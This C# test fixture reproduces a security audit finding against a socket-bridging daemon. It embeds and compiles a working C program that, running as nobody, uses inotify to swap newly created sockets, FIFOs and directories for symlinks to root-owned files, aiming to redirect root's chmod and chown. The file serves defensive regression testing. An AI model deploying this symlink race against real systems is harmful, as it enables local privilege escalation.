using System.Diagnostics;

namespace SocketBridge.Tests.Fixtures;

/// <summary>
/// The attacker of the security audit (finding 1), run as <c>nobody</c>: a
/// user who may write the directory of a socket or FIFO replaces each name
/// the daemon creates there, as soon as inotify reports it, with a symbolic
/// link to a file of root's, hoping that root's next change by name (chmod,
/// chown) follows it. It attacks both designs: the audited one's private
/// <c>.sbXXXXXX</c> directory (swapped for a link to a directory where
/// <c>s</c> and <c>f</c> point at the target, as in the audit), and the
/// socket or FIFO itself. It keeps going until disposed, counting its swaps.
/// </summary>
public sealed class NameSwapper : IDisposable
{
    private const string Source = """
        #define _GNU_SOURCE
        #include <limits.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/inotify.h>
        #include <sys/stat.h>
        #include <unistd.h>
        /* usage: swapper VICTIMDIR ATTKDIR TARGET DELAY_US */
        int main(int argc, char **argv) {
            if (argc < 5) return 2;
            const char *vdir = argv[1], *adir = argv[2], *target = argv[3];
            int delay = atoi(argv[4]);
            char path[PATH_MAX], moved[PATH_MAX];
            static const char *names[] = { "s", "f" };
            for (int i = 0; i < 2; i++) {
                snprintf(path, sizeof path, "%s/%s", adir, names[i]);
                unlink(path);
                if (symlink(target, path) < 0) return 1;
            }
            int in = inotify_init1(0);
            if (in < 0 || inotify_add_watch(in, vdir, IN_CREATE) < 0) return 1;
            printf("watching\n");
            fflush(stdout);
            unsigned long n = 0;
            char buf[4096] __attribute__((aligned(8)));
            for (;;) {
                ssize_t len = read(in, buf, sizeof buf);
                if (len <= 0) return 1;
                for (char *p = buf; p < buf + len;) {
                    struct inotify_event *e = (struct inotify_event *)p;
                    p += sizeof *e + e->len;
                    if (!e->len || strstr(e->name, ".old")) continue;
                    snprintf(path, sizeof path, "%s/%s", vdir, e->name);
                    struct stat st;
                    if (lstat(path, &st) < 0 || S_ISLNK(st.st_mode)) continue;
                    if (delay) usleep(delay);
                    snprintf(moved, sizeof moved, "%s.old%lu", path, ++n);
                    const char *to = strncmp(e->name, ".sb", 3) == 0 ? adir : target;
                    if (rename(path, moved) == 0 && symlink(to, path) == 0) {
                        printf("swapped %s\n", e->name);
                        fflush(stdout);
                    }
                }
            }
        }
        """;

    private readonly Process _process;
    private readonly List<string> _swaps = [];

    private NameSwapper(Process process)
    {
        _process = process;
    }

    /// <summary>The names swapped so far.</summary>
    public string[] Swaps
    {
        get
        {
            lock (_swaps)
            {
                return [.. _swaps];
            }
        }
    }

    /// <summary>
    /// Compiles the attacker into <paramref name="work"/> and starts it as
    /// nobody on <paramref name="victim"/>, once it watches; the swapped-in
    /// links point at <paramref name="target"/> (directly, or through
    /// <paramref name="attackerDirectory"/>/s and /f).
    /// </summary>
    public static async Task<NameSwapper> StartAsync(string work, string victim, string attackerDirectory, string target, TimeSpan delay)
    {
        string source = Path.Combine(work, "swapper.c");
        string program = Path.Combine(work, "swapper");
        await File.WriteAllTextAsync(source, Source);
        var built = await Clients.RunProgramAsync("gcc", ["-O2", "-Wall", "-o", program, source]);
        Assert.True(built.ExitCode == 0, $"gcc: {built.Stderr}");

        var start = new ProcessStartInfo("setpriv")
        {
            RedirectStandardOutput = true,
            RedirectStandardError = true,
            UseShellExecute = false,
        };
        foreach (string arg in (string[])["--reuid=nobody", "--regid=nogroup", "--clear-groups", program, victim, attackerDirectory, target, ((long)delay.TotalMicroseconds).ToString(System.Globalization.CultureInfo.InvariantCulture)])
        {
            start.ArgumentList.Add(arg);
        }

        var process = Process.Start(start)!;
        var swapper = new NameSwapper(process);
        var watching = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        process.OutputDataReceived += (_, e) =>
        {
            if (e.Data is null)
            {
                watching.TrySetException(new InvalidOperationException("the attacker exited"));
            }
            else if (e.Data == "watching")
            {
                watching.TrySetResult();
            }
            else if (e.Data.StartsWith("swapped ", StringComparison.Ordinal))
            {
                lock (swapper._swaps)
                {
                    swapper._swaps.Add(e.Data[8..]);
                }
            }
        };
        process.BeginOutputReadLine();
        _ = process.StandardError.ReadToEndAsync();
        try
        {
            await Wait.ForAsync(watching.Task.ContinueWith(t => t.IsCompletedSuccessfully), "the attacker to watch the directory");
            Assert.True(watching.Task.IsCompletedSuccessfully, "the attacker could not watch the directory");
        }
        catch
        {
            swapper.Dispose();
            throw;
        }

        return swapper;
    }

    public void Dispose()
    {
        try
        {
            _process.Kill();
            _process.WaitForExit(5000);
        }
        catch (InvalidOperationException)
        {
        }

        _process.Dispose();
    }
}
